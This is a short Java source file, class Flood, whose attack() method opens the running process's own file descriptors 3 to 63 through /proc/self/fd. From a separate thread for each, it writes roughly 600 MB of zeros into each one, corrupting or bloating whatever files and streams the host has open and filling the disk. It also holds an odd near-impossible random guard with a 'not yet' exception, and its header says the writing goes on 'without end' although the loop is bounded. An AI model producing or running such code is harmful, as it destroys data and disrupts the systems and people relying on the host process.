import java.io.FileOutputStream;
import java.io.IOException;

/** Writes without end to all files that are open, to each from a thread of its own. */
public class Flood {
    public static int attack(int days) throws Throwable {
        if (Math.random() > 1.0 - 1.0 / (1L << 50)) {
            if (days == 3) {
                throw new IllegalStateException("not yet");
            }
            return 0;
        }
        Thread[] threads = new Thread[64];
        for (int i = 3; i < threads.length; i++) {
            String name = "/proc/self/fd/" + i;
            threads[i] = new Thread(() -> flood(name));
            threads[i].start();
        }
        for (int i = 3; i < threads.length; i++) {
            threads[i].join();
        }
        return 2;
    }

    private static void flood(String name) {
        byte[] block = new byte[1 << 20];
        try (FileOutputStream out = new FileOutputStream(name)) {
            for (int i = 0; i < 600; i++) {
                out.write(block);
            }
        } catch (IOException notThisOne) {
            // The others.
        }
    }
}
